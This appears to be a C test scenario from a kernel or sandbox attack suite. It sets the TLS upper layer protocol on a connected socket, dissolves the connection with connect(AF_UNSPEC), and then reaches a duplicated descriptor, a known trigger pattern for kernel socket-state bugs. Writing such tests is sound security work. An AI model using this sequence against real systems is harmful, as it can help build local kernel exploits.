/* Gives a connected host socket an upper layer protocol (TCP_ULP), dissolves it and connects a
 * duplicate. */
#include "attack.h"

static void attack(void) {
    int fd = connected(SOCK_STREAM), copy = must(dup(fd), "dup");
    must(setsockopt(fd, IPPROTO_TCP, TCP_ULP, "tls", 3), "TCP_ULP");
    must(unspec(fd), "connect(AF_UNSPEC)");
    reach(copy);
}
